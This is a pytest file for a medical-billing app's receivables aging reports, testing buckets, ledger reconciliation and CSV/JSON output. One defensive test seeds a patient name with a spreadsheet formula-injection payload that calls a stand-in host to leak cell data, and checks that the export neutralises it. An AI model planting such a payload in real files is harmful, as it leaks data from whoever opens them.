"""Aging: the snapshot buckets open balances by age and reconciles with the ledger to the cent."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from peewee import fn

from claimdesk.core import clock
from claimdesk.core.errors import InputError, NotFound
from claimdesk.core.models import AgingRow, Posting
from claimdesk.core.services import actions, aging, balances, eobs, payments, statements
from claimdesk.core.services.verify import verify

from tests import builders as b

AS_OF = dt.date(2026, 6, 30)


def _ledger_ar() -> int:
    return int(Posting.select(fn.COALESCE(fn.SUM(Posting.amount), 0)).where(Posting.account == "AR").scalar())


def _clinic():
    """Balances of known ages with an insurer and with patients; one non-billable visit; all
    entered on the base date (so both modes see the same balances on it)."""
    with clock.frozen(AS_OF):
        return _clinic_entered()


def _clinic_entered():
    aetna = b.payer("Aetna")
    ann, bob = b.patient("Ames", "Ann"), b.patient("Bell", "Bob")
    b.encounter(ann, [100_00], payers=[aetna], dos=dt.date(2026, 6, 20))      # 10 days: current
    b.encounter(ann, [50_00], payers=[aetna], dos=dt.date(2026, 5, 31))       # 30 days: current
    b.encounter(ann, [40_00], payers=[aetna], dos=dt.date(2026, 5, 30))       # 31 days
    enc, (charge,) = b.encounter(ann, [120_00], payers=[aetna], dos=dt.date(2026, 4, 10))  # 81 days
    eobs.post_eob({"encounter_id": enc.id, "payer_id": aetna.id, "lines": [
        {"charge_id": charge.id, "adjustments": [
            {"group_code": "CO", "reason_code": "45", "amount": "20.00"},
            {"group_code": "PR", "reason_code": "1", "amount": "30.00"}]}]})  # 70 Aetna, 30 Ann
    b.encounter(bob, [75_25], dos=dt.date(2026, 3, 10))                        # self-pay, 112 days
    b.encounter(bob, [60_00], dos=dt.date(2026, 1, 5))                         # self-pay, 176 days
    hidden, _ = b.encounter(bob, [99_00], dos=dt.date(2026, 1, 6))
    actions.apply(hidden.id, "non_billable", {"confirm": True, "reason": "research visit"})
    return aetna, ann, bob


def test_recalc_buckets_by_date_of_service_and_reconciles_with_the_ledger(database):
    aetna, ann, bob = _clinic()
    res = aging.recalc(AS_OF)
    assert res["basis"] == "service"
    assert res["totals"] == {"current": 150_00, "days_31_60": 40_00, "days_61_90": 100_00,
                             "days_91_120": 75_25, "over_120": 60_00, "total": 425_25}
    assert res["totals"]["total"] == _ledger_ar()

    by_payer = aging.report(AS_OF, by="payer")
    rows = {r["name"]: r for r in by_payer["rows"]}
    assert rows["Aetna"]["total"] == balances.payer_balance(aetna.id) == 260_00
    assert (rows["Aetna"]["current"], rows["Aetna"]["days_31_60"], rows["Aetna"]["days_61_90"]) == (
        150_00, 40_00, 70_00)
    assert rows["Patient"]["total"] == 165_25
    assert rows["Patient"]["days_61_90"] == 30_00 and rows["Patient"]["over_120"] == 60_00
    assert sum(r["total"] for r in by_payer["rows"]) == _ledger_ar()

    by_patient = aging.report(AS_OF, by="patient")
    prow = {r["account_no"]: r for r in by_patient["rows"]}
    assert prow[ann.account_no]["total"] == balances.patient_balance(ann.id).total_ar == 290_00
    assert prow[bob.account_no]["total"] == balances.patient_balance(bob.id).total_ar == 135_25
    assert by_patient["totals"] == by_payer["totals"]
    assert verify() == []


def test_report_forms_json_and_csv_keep_every_cent(database):
    _clinic()
    aging.recalc(AS_OF)
    rep = aging.report(by="payer")  # the newest snapshot
    assert rep["as_of"] == AS_OF
    js = aging.report_json(rep)
    assert js["totals"]["total"] == "425.25"
    assert js["buckets"] == ["0-30", "31-60", "61-90", "91-120", "120+"]
    rows = list(csv.reader(io.StringIO(aging.report_csv(rep))))
    assert rows[0] == ["payer", "0-30", "31-60", "61-90", "91-120", "120+", "total"]
    assert rows[-1] == ["TOTAL", "150.00", "40.00", "100.00", "75.25", "60.00", "425.25"]
    text = aging.report_text(aging.report(AS_OF, by="patient"))
    assert "Ames, Ann" in text and "425.25" in text


def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_and_amounts_stay_numbers(database):
    """A spreadsheet opening the report must not run a name (from a clerk or an imported file) as
    a formula; the amounts stay numbers."""
    with clock.frozen(AS_OF):
        sneaky = b.patient('=HYPERLINK("http://x.example/?"&A1,"Refund")', "Al")
        b.encounter(sneaky, [10_00], dos=dt.date(2026, 6, 20))
        b.encounter(b.patient("+1+1", "Bo"), [5_00], dos=dt.date(2026, 6, 20))
    aging.recalc(AS_OF)
    rows = list(csv.reader(io.StringIO(aging.report_csv(aging.report(AS_OF, by="patient")))))
    names = [r[0] for r in rows[1:-1]]
    assert """'=HYPERLINK("http://x.example/?"&A1,"Refund"), Al""" in names and "'+1+1, Bo" in names
    assert rows[-1][-1] == "15.00" and all(not c.startswith("'") for r in rows for c in r[2:])


def test_recalc_replaces_the_snapshot_for_the_same_date(database):
    _clinic()
    first = aging.recalc(AS_OF)
    again = aging.recalc(AS_OF)
    assert again["rows"] == first["rows"] == AgingRow.select().where(AgingRow.as_of == AS_OF).count()
    assert again["totals"] == first["totals"]
    earlier = aging.recalc(dt.date(2026, 3, 31), mode="base_date")  # a second snapshot, other base date
    assert earlier["totals"]["total"] == 425_25
    assert earlier["totals"]["over_120"] == 0  # 2026-01-05 is 85 days before 2026-03-31
    assert aging.report(AS_OF)["totals"]["over_120"] == 60_00
    assert aging.report(dt.date(2026, 3, 31))["mode"] == "base_date"
    assert aging.report(AS_OF)["mode"] == "point_in_time"
    assert verify() == []


def test_last_activity_basis_counts_from_the_latest_payment_or_statement(database):
    aetna, ann, bob = _clinic()
    with clock.frozen(dt.date(2026, 6, 15)):  # Bob pays a little on his oldest charge
        payments.post_credit({"patient_id": bob.id, "voucher_id": b.voucher(None, 10_00, method="cash"),
                              "apply": "auto"})
    res = aging.recalc(AS_OF, basis="last_activity")
    assert res["basis"] == "last_activity"
    # Bob's 50.00 left on the 2026-01-05 charge is current again; his 75.25 (2026-03-10) stays 91-120
    assert res["totals"]["over_120"] == 0
    assert res["totals"]["current"] == 150_00 + 50_00
    assert res["totals"]["total"] == _ledger_ar() == 415_25
    with clock.frozen(dt.date(2026, 6, 1)):  # a statement renews the age of what Ann herself owes
        statements.generate_for(ann.id)
    aging.recalc(AS_OF, basis="last_activity")
    rows = {r["name"]: r for r in aging.report(AS_OF, by="patient")["rows"]}
    assert (rows["Ames, Ann"]["current"], rows["Ames, Ann"]["days_31_60"], rows["Ames, Ann"]["days_61_90"]) == (
        180_00, 40_00, 70_00)  # her 30.00 is current; Aetna's 70.00 on the same charge is not
    assert verify() == []


def _ledger_ar_on(day: dt.date) -> int:
    """The receivable on ``day`` straight from the ledger: AR postings of entries dated on or before it."""
    from claimdesk.core.models import JournalEntry

    return int(Posting.select(fn.COALESCE(fn.SUM(Posting.amount), 0)).join(JournalEntry)
               .where((Posting.account == "AR") & (JournalEntry.posted_on <= day)).scalar())


def test_point_in_time_aging_shows_the_balances_on_the_date_and_reconciles_with_the_ledger_then(database):
    """A month-end report: what was owed on June 30, not today's balances; later charges and later
    payments are not in it."""
    aetna, cara = b.payer("Aetna"), b.patient("Cole", "Cara")
    with clock.frozen(dt.date(2026, 5, 10)):
        b.encounter(cara, [100_00], payers=[aetna], dos=dt.date(2026, 5, 10))            # 51 days on June 30
    with clock.frozen(dt.date(2026, 6, 20)):
        _enc, (june,) = b.encounter(cara, [80_00], dos=dt.date(2026, 6, 20))             # self-pay, current
    with clock.frozen(dt.date(2026, 7, 3)):
        payments.post_credit({"patient_id": cara.id, "voucher_id": b.voucher(None, 80_00, method="cash"),
                              "apply": "auto"})                                          # paid in July
    with clock.frozen(dt.date(2026, 7, 8)):
        b.encounter(cara, [45_00], payers=[aetna], dos=dt.date(2026, 7, 8))             # a July visit

    june_end = aging.recalc(AS_OF)
    assert june_end["mode"] == "point_in_time"
    assert june_end["totals"] == {"current": 80_00, "days_31_60": 100_00, "days_61_90": 0, "days_91_120": 0,
                                  "over_120": 0, "total": 180_00}
    assert june_end["totals"]["total"] == _ledger_ar_on(AS_OF)
    rows = {r["name"]: r["total"] for r in aging.report(AS_OF)["rows"]}
    assert rows == {"Aetna": 100_00, "Patient": 80_00}

    seed_mode = aging.recalc(AS_OF, mode="base_date")  # today's balances (July's visit, June paid) aged from June 30
    assert seed_mode["totals"]["total"] == _ledger_ar() == 145_00
    assert seed_mode["totals"]["current"] == 45_00 and seed_mode["totals"]["days_31_60"] == 100_00
    assert "base date: today's balances" in aging.report_text(aging.report(AS_OF))
    assert verify() == []


def test_point_in_time_aging_of_a_balance_paid_in_part_before_and_after_the_date(database):
    """A split touched on both sides of the date is aged at what it was on the date; a split
    nothing touched since keeps today's balance; each month-end total is the ledger's then."""
    dan = b.patient("Diaz", "Dan")
    with clock.frozen(dt.date(2026, 5, 1)):
        b.encounter(dan, [25_00], dos=dt.date(2026, 5, 1))                               # untouched, 60 days
    with clock.frozen(dt.date(2026, 6, 1)):
        _enc, (touched,) = b.encounter(dan, [90_00], dos=dt.date(2026, 6, 1))
    with clock.frozen(dt.date(2026, 6, 15)):
        payments.post_credit({"patient_id": dan.id, "voucher_id": b.voucher(None, 10_00, method="cash"),
                              "apply": "manual", "applications": [{"charge_id": touched.id}]})
    with clock.frozen(dt.date(2026, 7, 2)):
        payments.post_credit({"patient_id": dan.id, "voucher_id": b.voucher(None, 30_00, method="cash"),
                              "apply": "manual", "applications": [{"charge_id": touched.id}]})

    june_end = aging.recalc(AS_OF)["totals"]
    assert june_end == {"current": 80_00, "days_31_60": 25_00, "days_61_90": 0, "days_91_120": 0,
                        "over_120": 0, "total": 105_00} and june_end["total"] == _ledger_ar_on(AS_OF)
    may_end = aging.recalc(dt.date(2026, 5, 31))["totals"]
    assert may_end["total"] == 25_00 == _ledger_ar_on(dt.date(2026, 5, 31))
    assert aging.recalc(dt.date(2026, 7, 31))["totals"]["total"] == 75_00 == _ledger_ar()


def test_bad_input_names_the_field(database):
    with pytest.raises(InputError) as err:
        aging.recalc("2026-13-01")
    assert err.value.field == "as_of"
    with pytest.raises(InputError) as err:
        aging.recalc(AS_OF, basis="posting")
    assert err.value.field == "basis"
    with pytest.raises(InputError) as err:
        aging.recalc(AS_OF, mode="today")
    assert err.value.field == "mode"
    with pytest.raises(NotFound, match="aging recalc") as err:
        aging.report(AS_OF)
    assert err.value.field == "as_of"


def test_cli_recalc_and_report_as_json_and_csv(cli, monkeypatch, tmp_path):
    monkeypatch.setenv("CLAIMDESK_NOW", "2026-06-30T17:00:00")
    run = cli.ok
    _clinic()
    assert '"total": "425.25"' in run("aging", "recalc", "--json")
    rep = __import__("json").loads(run("aging", "report", "--by", "payer", "--json"))
    assert rep["as_of"] == "2026-06-30" and rep["totals"]["total"] == "425.25"
    assert {r["name"]: r["total"] for r in rep["rows"]} == {"Aetna": "260.00", "Patient": "165.25"}
    out = run("aging", "report", "--by", "patient", "--csv", "--out", str(tmp_path / "aging.csv"))
    assert out.splitlines()[-1] == "TOTAL,,150.00,40.00,100.00,75.25,60.00,425.25"
    assert (tmp_path / "aging.csv").read_text().splitlines()[-1] == out.splitlines()[-1]
    text = run("aging", "report", "--by", "patient")
    assert "Ames, Ann" in text and "point in time: balances on that date" in text
    assert "base date" in run("aging", "recalc", "--mode", "base-date")
    code, _, err = cli("aging", "recalc", "--as-of", "30/06/2026")
    assert code == 2 and "as_of" in err
